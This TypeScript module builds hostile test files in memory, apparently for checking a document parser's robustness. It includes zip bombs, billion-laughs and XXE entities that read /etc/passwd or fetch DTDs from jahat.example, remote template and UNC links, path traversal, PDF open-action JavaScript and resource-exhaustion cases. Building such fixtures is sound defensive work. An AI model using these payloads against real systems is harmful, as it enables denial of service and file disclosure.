// Files that attack whoever reads them, made in code: none of them is ever stored.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import {
  type SampleMember,
  sampleDocx,
  sampleOle,
  samplePdf,
  sampleZip,
  wordParagraph,
} from '../files/sample-files.ts';

/** One hostile file: its name, what is wrong with it, and its bytes, made when asked for. */
export interface HostileFile {
  readonly name: string;
  readonly what: string;
  readonly make: () => Buffer;
}

const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MB = 1024 * 1024;

/** A workbook of one sheet out of raw XML. */
export function sampleXlsx(
  sheet: string | Uint8Array,
  parts: { readonly shared?: string; readonly styles?: string; readonly workbook?: string } = {},
  more: readonly SampleMember[] = [],
): Buffer {
  const relation = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="${target}"/>`;
  const workbook =
    parts.workbook ?? `<workbook><sheets><sheet name="A" sheetId="1" r:id="r1" xmlns:r="r"/></sheets></workbook>`;
  return sampleZip(
    [
      { name: '[Content_Types].xml', content: TYPES },
      {
        name: '_rels/.rels',
        content: `<Relationships>${relation('r1', 'officeDocument', 'xl/workbook.xml')}</Relationships>`,
      },
      {
        name: 'xl/_rels/workbook.xml.rels',
        content: `<Relationships>${relation('r1', 'worksheet', 'worksheets/sheet1.xml')}${relation('r2', 'sharedStrings', 'sharedStrings.xml')}${relation('r3', 'styles', 'styles.xml')}</Relationships>`,
      },
      { name: 'xl/workbook.xml', content: workbook },
      { name: 'xl/worksheets/sheet1.xml', content: sheet },
      { name: 'xl/sharedStrings.xml', content: parts.shared ?? '<sst/>' },
      { name: 'xl/styles.xml', content: parts.styles ?? '<styleSheet/>' },
    ]
      .concat()
      .map((member) => ({ ...member, deflate: true }))
      .concat(more.map((member) => ({ deflate: false, ...member }) as never)),
  );
}

const sheet = (rows: string): string => `<worksheet><sheetData>${rows}</sheetData></worksheet>`;

/** A package with the parts of a presentation. */
function samplePptx(slide: string): Buffer {
  return sampleZip([
    { name: '[Content_Types].xml', content: TYPES },
    {
      name: '_rels/.rels',
      content: `<Relationships><Relationship Id="r1" Type="${RELATIONS}/officeDocument" Target="ppt/presentation.xml"/></Relationships>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      content: `<Relationships><Relationship Id="r1" Type="${RELATIONS}/slide" Target="slides/slide1.xml"/></Relationships>`,
    },
    { name: 'ppt/presentation.xml', content: '<p><sldIdLst><sldId r:id="r1" id="256" xmlns:r="r"/></sldIdLst></p>' },
    { name: 'ppt/slides/slide1.xml', content: slide, deflate: true },
  ]);
}

/** Finds the directory entry of a member. */
function directoryEntry(zip: Buffer, name: string): number {
  for (let at = zip.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = zip.indexOf('PK\x01\x02', at + 4, 'latin1')) {
    const length = zip.readUInt16LE(at + 28);
    if (zip.toString('latin1', at + 46, at + 46 + length) === name) return at;
  }
  throw new Error(`no ${name} in the directory`);
}

/** The same file with another size declared for one part, in the directory and in front of the part. */
function declaring(zip: Buffer, name: string, size: number): Buffer {
  const copy = Buffer.from(zip);
  const entry = directoryEntry(copy, name);
  copy.writeUInt32LE(size, entry + 24);
  copy.writeUInt32LE(size, copy.readUInt32LE(entry + 42) + 22);
  return copy;
}

/** Many names for the same packed bytes, as David Fifield's bombs have them ("A better zip bomb", 2019). */
function overlapping(name: string, count: number, size: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(size), { level: 9 });
  const checksum = crc32(Buffer.alloc(size));
  const fields = (length: number): Buffer => {
    const bytes = Buffer.alloc(26);
    bytes.writeUInt16LE(20, 0);
    bytes.writeUInt16LE(8, 4);
    bytes.writeUInt32LE(checksum, 10);
    bytes.writeUInt32LE(packed.length, 14);
    bytes.writeUInt32LE(size, 18);
    bytes.writeUInt16LE(length, 22);
    return bytes;
  };
  const names = Array.from({ length: count }, (_, index) => Buffer.from(index === 0 ? name : `word/part${index}.xml`));
  const [first = Buffer.alloc(0)] = names;
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields(first.length), first, packed]);
  const listing = Buffer.concat(
    names.map((bytes) =>
      Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields(bytes.length), Buffer.alloc(14), bytes]),
    ),
  );
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, listing, end]);
}

/** A part that claims 2^60 bytes in the 64-bit fields of ZIP. */
function claims64(): Buffer {
  const zip = sampleDocx(wordParagraph('isi'));
  const at = directoryEntry(zip, 'word/document.xml');
  const nameEnd = at + 46 + zip.readUInt16LE(at + 28);
  const extra = Buffer.alloc(12);
  extra.writeUInt16LE(1, 0);
  extra.writeUInt16LE(8, 2);
  extra.writeBigUInt64LE(1n << 50n, 4);
  const copy = Buffer.concat([zip.subarray(0, nameEnd), extra, zip.subarray(nameEnd)]);
  copy.writeUInt32LE(0xffffffff, at + 24);
  copy.writeUInt16LE(12, at + 30);
  const end = copy.length - 22;
  copy.writeUInt32LE(copy.readUInt32LE(end + 12) + 12, end + 12);
  return copy;
}

const nested = (open: string, close: string, depth: number): string => open.repeat(depth) + close.repeat(depth);

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n === 0 ? '' : n};`.repeat(10)}">`,
).join('')}]>`;

const OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const OUTSIDE_LIST = '<!DOCTYPE a SYSTEM "http://jahat.example/a.dtd">';
const PARAMETERS = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://jahat.example/p.dtd"> %p;]>';

function docxPart(xml: string): Buffer {
  return sampleZip([
    { name: '[Content_Types].xml', content: TYPES },
    { name: 'word/document.xml', content: xml, deflate: true },
  ]);
}

const withBody = (head: string, body: string): string => `${head}<document><body>${body}</body></document>`;

/** Objects of a PDF, numbered from 1, with a table that is right. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  const offsets: number[] = [];
  let length = chunks[0]?.length ?? 0;
  for (const [index, body] of objects.entries()) {
    const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1');
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), bytes, Buffer.from('\nendobj\n')]);
    offsets.push(length);
    chunks.push(object);
    length += object.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  chunks.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

function streamOf(entries: string, content: Buffer | string): Buffer {
  const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1');
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (resources: string, contents = '4 0 R'): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Resources << ${resources} >> /Contents ${contents} >>`;

const ZIPS: readonly HostileFile[] = [
  {
    name: 'rasio.docx',
    what: 'a part that unpacks to 200 MB of nothing',
    make: () =>
      sampleZip([
        { name: '[Content_Types].xml', content: TYPES },
        { name: 'word/document.xml', content: Buffer.alloc(200 * MB, ' '), deflate: true },
      ]),
  },
  {
    name: 'rasio.xlsx',
    what: 'a sheet that unpacks to 450 MB of nothing',
    make: () => sampleXlsx(Buffer.alloc(450 * MB, ' ')),
  },
  {
    name: 'banyak.docx',
    what: '25,000 parts',
    make: () => sampleZip(Array.from({ length: 25_000 }, (_, n) => ({ name: `word/p${n}.xml`, content: '' }))),
  },
  {
    name: 'sarang.docx',
    what: 'a ZIP in a ZIP in a ZIP, ten deep',
    make: () => {
      let inner = sampleZip([{ name: 'nol', content: Buffer.alloc(MB), deflate: true }]);
      for (let depth = 0; depth < 10; depth += 1)
        inner = sampleZip([{ name: 'dalam.zip', content: inner, deflate: true }]);
      return sampleDocx(wordParagraph('isi'), [{ name: 'word/embeddings/dalam.zip', content: inner }]);
    },
  },
  {
    name: 'tumpang.docx',
    what: '5,000 parts over the same bytes',
    make: () => overlapping('word/document.xml', 5000, 20 * MB),
  },
  {
    name: 'kecil.docx',
    what: 'a part that declares 10 bytes and holds 40 MB',
    make: () => declaring(sampleDocx(wordParagraph(' '.repeat(40 * MB))), 'word/document.xml', 10),
  },
  {
    name: 'kecil.xlsx',
    what: 'a sheet that declares 10 bytes and holds 40 MB',
    make: () => declaring(sampleXlsx(sheet(' '.repeat(40 * MB))), 'xl/worksheets/sheet1.xml', 10),
  },
  {
    name: 'besar.docx',
    what: 'a part that declares almost 4 GB',
    make: () => declaring(sampleDocx(wordParagraph('isi')), 'word/document.xml', 0xfffffffe),
  },
  {
    name: 'besar.xlsx',
    what: 'a sheet that declares almost 4 GB',
    make: () => declaring(sampleXlsx(sheet('')), 'xl/worksheets/sheet1.xml', 0xfffffffe),
  },
  { name: 'enam-empat.docx', what: 'a part of 2^50 bytes by its 64-bit field', make: claims64 },
  {
    name: 'ganda.docx',
    what: 'two texts under one name, of which readers take one each',
    make: () => sampleDocx(wordParagraph('yang dibaca'), [{ name: 'word/document.xml', content: '<lain/>' }]),
  },
  {
    name: 'ganda.xlsx',
    what: 'two sheets under one name',
    make: () => sampleXlsx(sheet(''), {}, [{ name: 'xl/worksheets/sheet1.xml', content: sheet('') }]),
  },
  {
    name: 'huruf.docx',
    what: 'two texts whose names differ by a capital letter',
    make: () => sampleDocx(wordParagraph('yang dibaca'), [{ name: 'Word/Document.xml', content: '<lain/>' }]),
  },
  {
    name: 'ekor.docx',
    what: 'a directory that lies outside',
    make: () => {
      const zip = sampleDocx(wordParagraph('isi'));
      zip.writeUInt32LE(0x7fffffff, zip.length - 6);
      return zip;
    },
  },
  {
    name: 'potong.docx',
    what: 'an end without the rest',
    make: () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), sampleDocx(wordParagraph('isi')).subarray(-22)]),
  },
  {
    name: 'mundur.xlsx',
    what: 'a directory of 65,535 entries that are not there',
    make: () => {
      const zip = sampleXlsx(sheet(''));
      zip.writeUInt16LE(0xffff, zip.length - 12);
      zip.writeUInt16LE(0xffff, zip.length - 14);
      return zip;
    },
  },
];

const XMLS: readonly HostileFile[] = [
  {
    name: 'tawa.docx',
    what: 'a billion laughs',
    make: () => docxPart(withBody(LAUGHS, '<p><r><t>&lol9;</t></r></p>')),
  },
  {
    name: 'tawa.xlsx',
    what: 'a billion laughs',
    make: () => sampleXlsx(`${LAUGHS}${sheet('<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row>')}`),
  },
  { name: 'tawa.pptx', what: 'a billion laughs', make: () => samplePptx(`${LAUGHS}<sld><t>&lol9;</t></sld>`) },
  {
    name: 'luar.docx',
    what: 'an entity that is a file of this computer',
    make: () => docxPart(withBody(OUTSIDE, '<p><r><t>&x;</t></r></p>')),
  },
  {
    name: 'luar.xlsx',
    what: 'an entity that is a file of this computer',
    make: () => sampleXlsx(`${OUTSIDE}${sheet('<row><c t="inlineStr"><is><t>&x;</t></is></c></row>')}`),
  },
  { name: 'daftar.docx', what: 'a list of entities on the network', make: () => docxPart(withBody(OUTSIDE_LIST, '')) },
  { name: 'parameter.docx', what: 'entities that make entities', make: () => docxPart(withBody(PARAMETERS, '')) },
  {
    name: 'dalam.docx',
    what: 'a million elements within one another',
    make: () => docxPart(nested('<a>', '</a>', 1_000_000)),
  },
  {
    name: 'dalam.xlsx',
    what: 'a million elements within one another',
    make: () => sampleXlsx(nested('<a>', '</a>', 1_000_000)),
  },
  {
    name: 'dalam.pptx',
    what: 'a million elements within one another',
    make: () => samplePptx(nested('<a>', '</a>', 1_000_000)),
  },
  { name: 'atribut.docx', what: 'an attribute of 60 MB', make: () => docxPart(`<a b="${'x'.repeat(60 * MB)}"/>`) },
  {
    name: 'banyak-atribut.docx',
    what: 'a million attributes',
    make: () => docxPart(`<document ${Array.from({ length: 300_000 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  },
  { name: 'tak-tutup.docx', what: 'XML that does not end', make: () => docxPart('<document><body><p>') },
  { name: 'komentar.docx', what: 'a comment without end', make: () => docxPart(`<document><!--${'-'.repeat(2 * MB)}`) },
];

const WORDS: readonly HostileFile[] = [
  {
    name: 'hubungan.docx',
    what: 'pictures, frames and templates on the network',
    make: () =>
      sampleDocx(wordParagraph('isi'), [
        {
          name: 'word/_rels/document.xml.rels',
          content: `<Relationships><Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"/><Relationship Id="r2" Type="${RELATIONS}/frame" Target="\\\\jahat.example\\bagi" TargetMode="External"/></Relationships>`,
        },
      ]),
  },
  {
    name: 'main-luar.docx',
    what: 'a main part outside of the package',
    make: () =>
      sampleDocx(wordParagraph('isi'), [
        {
          name: '_rels/.rels',
          content: `<Relationships><Relationship Id="r1" Type="${RELATIONS}/officeDocument" Target="../../../../etc/passwd"/></Relationships>`,
        },
      ]),
  },
  {
    name: 'sisipan.docx',
    what: 'HTML and programs as parts',
    make: () =>
      sampleDocx('<w:altChunk r:id="r9" xmlns:r="r"/>', [
        { name: 'word/afchunk.htm', content: '<script>alert(1)</script>' },
        { name: 'word/embeddings/oleObject1.bin', content: sampleOle(['\u0001Ole10Native']) },
      ]),
  },
  {
    name: 'halaman.docx',
    what: 'a million page breaks',
    make: () => sampleDocx('<w:p><w:r><w:br w:type="page"/><w:t>x</w:t></w:r></w:p>'.repeat(300_000)),
  },
  {
    name: 'tabel.docx',
    what: 'a text over every column of 20,000 rows',
    make: () =>
      sampleDocx(
        `<w:tbl>${`<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${wordParagraph('x'.repeat(200))}</w:tc></w:tr>`.repeat(19_000)}</w:tbl>`,
      ),
  },
  {
    name: 'sambung.docx',
    what: 'a long text that goes on through 19,000 rows',
    make: () =>
      sampleDocx(
        `<w:tbl><w:tr><w:tc>${wordParagraph('x'.repeat(19_000))}</w:tc></w:tr>${'<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr></w:tc></w:tr>'.repeat(19_000)}</w:tbl>`,
      ),
  },
  {
    name: 'tingkat.docx',
    what: 'a list of a billion levels',
    make: () =>
      sampleDocx(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Satu</w:t></w:r></w:p>',
        [
          {
            name: 'word/numbering.xml',
            content:
              '<numbering><abstractNum abstractNumId="0"><lvl ilvl="999999999"><start val="999999999"/><numFmt val="upperRoman"/><lvlText val="%9."/></lvl></abstractNum><num numId="1"><abstractNumId val="0"/></num></numbering>',
          },
        ],
      ),
  },
  {
    name: 'gaya.docx',
    what: 'styles that stand on one another in a circle',
    make: () =>
      sampleDocx('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Satu</w:t></w:r></w:p>', [
        {
          name: 'word/styles.xml',
          content:
            '<styles><style styleId="A"><basedOn val="B"/></style><style styleId="B"><basedOn val="A"/></style></styles>',
        },
      ]),
  },
];

const row = (number: number, cells: string): string => `<row r="${number}">${cells}</row>`;

const SHEETS: readonly HostileFile[] = [
  {
    name: 'lebar.xlsx',
    what: '16,384 columns in 100,000 rows that are only declared',
    make: () =>
      sampleXlsx(
        `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols><sheetData>${Array.from(
          { length: 100_000 },
          (_, n) => row(n + 1, '<c r="XFD1" s="1"/>'),
        )
          .join('')
          .replace(/r="XFD1"/g, '')}${row(100_001, '<c r="A100001"><v>1</v></c>')}</sheetData></worksheet>`,
      ),
  },
  {
    name: 'ujung.xlsx',
    what: 'a value in the last cell that Excel knows',
    make: () => sampleXlsx(sheet(row(1_048_576, '<c r="XFD1048576"><v>1</v></c>'))),
  },
  {
    name: 'jauh.xlsx',
    what: 'a row far beyond the last',
    make: () => sampleXlsx(sheet('<row r="99999999999"><c><v>1</v></c></row>')),
  },
  { name: 'pecah.xlsx', what: 'half a row', make: () => sampleXlsx(sheet('<row r="1.5"><c><v>1</v></c></row>')) },
  {
    name: 'minus.xlsx',
    what: 'a row below nought',
    make: () => sampleXlsx(sheet('<row r="-5"><c><v>1</v></c></row>')),
  },
  {
    name: 'bersama.xlsx',
    what: 'one long text in 100,000 cells',
    make: () =>
      sampleXlsx(sheet(Array.from({ length: 100_000 }, (_, n) => row(n + 1, '<c t="s"><v>0</v></c>')).join('')), {
        shared: `<sst><si><t>${'x'.repeat(32_000)}</t></si></sst>`,
      }),
  },
  {
    name: 'banyak-teks.xlsx',
    what: 'two million empty shared texts',
    make: () =>
      sampleXlsx(sheet('<row><c t="s"><v>1999999</v></c><c><v>1</v></c></row>'), {
        shared: `<sst>${'<si/>'.repeat(2_000_000)}</sst>`,
      }),
  },
  {
    name: 'format.xlsx',
    what: 'a number format of a million open brackets',
    make: () =>
      sampleXlsx(sheet('<row><c s="0"><v>1</v></c></row>'), {
        styles: `<styleSheet><numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(1_000_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>`,
      }),
  },
  {
    name: 'rumus.xlsx',
    what: 'a formula of 10 MB within formulas',
    make: () => sampleXlsx(sheet(`<row><c><f>${'SUM('.repeat(2_500_000)}</f><v>1</v></c></row>`)),
  },
  {
    name: 'gabung.xlsx',
    what: '100,000 ranges over the whole sheet',
    make: () =>
      sampleXlsx(
        `<worksheet><sheetData><row><c><v>1</v></c></row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100_000)}</mergeCells></worksheet>`,
      ),
  },
  {
    name: 'lembar.xlsx',
    what: '10,000 sheets that are all the same one',
    make: () =>
      sampleXlsx(sheet('<row><c><v>1</v></c></row>'), {
        workbook: `<workbook><sheets>${Array.from({ length: 10_000 }, (_, n) => `<sheet name="L${n}" r:id="r1" xmlns:r="r"/>`).join('')}</sheets></workbook>`,
      }),
  },
  {
    name: 'alamat.xlsx',
    what: 'a cell without a place',
    make: () => sampleXlsx(sheet('<row><c r="=CMD"><v>1</v></c></row>')),
  },
  { name: 'satu-baris.csv', what: 'one line of 100 MB', make: () => Buffer.alloc(100 * MB, 'x') },
  {
    name: 'pemisah.csv',
    what: '40 million separators in one line',
    make: () => Buffer.concat([Buffer.from('a;b\n'), Buffer.alloc(40 * MB, ';'), Buffer.from('x')]),
  },
  {
    name: 'baris.csv',
    what: '20 million empty lines',
    make: () => Buffer.concat([Buffer.alloc(20 * MB, '\n'), Buffer.from('a;b')]),
  },
  { name: 'kutip.csv', what: 'a quote that does not end', make: () => Buffer.from(`a,b\n"${'""'.repeat(5 * MB)}`) },
];

const PDFS: readonly HostileFile[] = [
  {
    name: 'lingkar.pdf',
    what: 'a page tree that is its own branch',
    make: () => pdfOf([CATALOG, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>']),
  },
  {
    name: 'jumlah.pdf',
    what: 'two billion pages by its own word',
    make: () => pdfOf([CATALOG, '<< /Type /Pages /Kids [] /Count 2147483647 >>']),
  },
  {
    name: 'dalam.pdf',
    what: 'a million arrays within one another',
    make: () => pdfOf([CATALOG, PAGES, page(''), streamOf('', ''), nested('[', ']', 1_000_000)], '/Info 5 0 R'),
  },
  {
    name: 'bentuk.pdf',
    what: 'a form that draws itself',
    make: () =>
      pdfOf([
        CATALOG,
        PAGES,
        page('/XObject << /F 5 0 R >>'),
        streamOf('', '/F Do'),
        streamOf(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
          '/F Do /F Do',
        ),
      ]),
  },
  {
    name: 'tawa.pdf',
    what: 'forms that draw ten of the next, nine deep',
    make: () =>
      pdfOf([
        CATALOG,
        PAGES,
        page('/XObject << /F 5 0 R >>'),
        streamOf('', '/F Do'),
        ...Array.from({ length: 9 }, (_, n) =>
          streamOf(
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F ${n + 6} 0 R >> >>`,
            '/F Do '.repeat(10),
          ),
        ),
      ]),
  },
  {
    name: 'aliran.pdf',
    what: 'a content that unpacks to 150 MB',
    make: () => samplePdf([['x']], { content: deflateSync(Buffer.alloc(150 * MB)) }),
  },
  {
    name: 'kemas.pdf',
    what: 'a content that is packed eight times',
    make: () => {
      let content: Buffer = Buffer.alloc(50 * MB);
      for (let round = 0; round < 8; round += 1) content = deflateSync(content);
      return pdfOf([CATALOG, PAGES, page(''), streamOf(`/Filter [${'/FlateDecode '.repeat(8)}]`, content)]);
    },
  },
  {
    name: 'jbig.pdf',
    what: 'a JBIG2 picture of 2^32 rows',
    make: () =>
      pdfOf([
        CATALOG,
        PAGES,
        page('/XObject << /I 5 0 R >>'),
        streamOf('', '/I Do'),
        streamOf(
          '/Type /XObject /Subtype /Image /Width 4294967295 /Height 4294967295 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
          Buffer.from([0, 0, 0, 0, 0x30, 0, 1, 0, 0, 0, 0x13, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
        ),
      ]),
  },
  {
    name: 'peta.pdf',
    what: 'a font that maps four billion characters',
    make: () =>
      pdfOf([
        CATALOG,
        PAGES,
        page('/Font << /F 5 0 R >>'),
        streamOf('', 'BT /F 12 Tf <00000001> Tj ET'),
        '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>',
        streamOf(
          '',
          '/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap end',
        ),
        '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>',
      ]),
  },
  {
    name: 'tabel.pdf',
    what: 'a table that goes on in itself',
    make: () => pdfOf([CATALOG, PAGES, page(''), streamOf('', '')], '/Prev 9'),
  },
  {
    name: 'terbuka.pdf',
    what: 'a stream without an end, a million times',
    make: () => Buffer.from(`%PDF-1.7\n${'1 0 obj << /Length 9 >> stream\n'.repeat(200_000)}`, 'latin1'),
  },
  {
    name: 'skrip.pdf',
    what: 'a script that runs when it is opened',
    make: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
        PAGES,
        page(''),
        streamOf('', ''),
      ]),
  },
];

const OTHERS: readonly HostileFile[] = [
  { name: 'kurung.rtf', what: 'ten million braces', make: () => Buffer.from(`{\\rtf1 ${'{'.repeat(10_000_000)}`) },
  {
    name: 'angka.rtf',
    what: 'a skip of ten billion bytes',
    make: () => Buffer.from('{\\rtf1 \\bin9999999999 \\uc9999999999 \\u65 isi}'),
  },
  { name: 'halaman.rtf', what: 'a million pages', make: () => Buffer.from(`{\\rtf1 ${'\\page x'.repeat(1_000_000)}}`) },
  {
    name: 'tag.html',
    what: 'a million scripts that do not end',
    make: () => Buffer.from(`<html>${'<script>'.repeat(1_000_000)}`),
  },
  {
    name: 'komentar.html',
    what: 'a million comments that do not end',
    make: () => Buffer.from(`<html>${'<!--'.repeat(1_000_000)}`),
  },
  { name: 'blank.txt', what: 'thirty million blanks', make: () => Buffer.alloc(30 * MB, ' ') },
  { name: 'dalam.json', what: 'ten million brackets', make: () => Buffer.alloc(10 * MB, '[') },
  {
    name: 'ole.doc',
    what: 'a directory that runs in a circle',
    make: () => {
      const file = sampleOle(Array.from({ length: 12 }, (_, n) => `S${n}`));
      file.writeUInt32LE(1, 512 + 8);
      return file;
    },
  },
];

/** Every hostile file there is. */
export const HOSTILE_FILES: readonly HostileFile[] = [...ZIPS, ...XMLS, ...WORDS, ...SHEETS, ...PDFS, ...OTHERS];
